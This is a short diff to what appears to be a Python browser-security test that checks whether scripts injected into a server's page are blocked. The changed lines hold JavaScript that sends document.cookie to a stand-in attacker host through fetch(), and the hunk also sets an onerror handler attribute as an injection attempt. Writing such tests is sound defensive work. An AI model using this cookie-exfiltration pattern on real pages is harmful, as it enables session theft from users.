@@ -217,7 +217,8 @@ def test_a_script_in_a_page_of_this_server_cannot_be_smuggled_in(
           attempt("attribute", () => inline.setAttribute("onerror", "window.smuggled = 4"));
           inline.setAttribute("src", `${elsewhere}/image`);
           document.body.append(inline);
-          await fetch(`${elsewhere}/fetch?${document.cookie}`, { mode: "no-cors" }).then(() => tried.push("fetch"), () => 0);
+          const sent = fetch(`${elsewhere}/fetch?${document.cookie}`, { mode: "no-cors" });
+          await sent.then(() => tried.push("fetch"), () => null);
           return { tried, smuggled: window.smuggled ?? null, cookie: document.cookie };
         }""",
         f"http://{EVIL}:{other.port}",
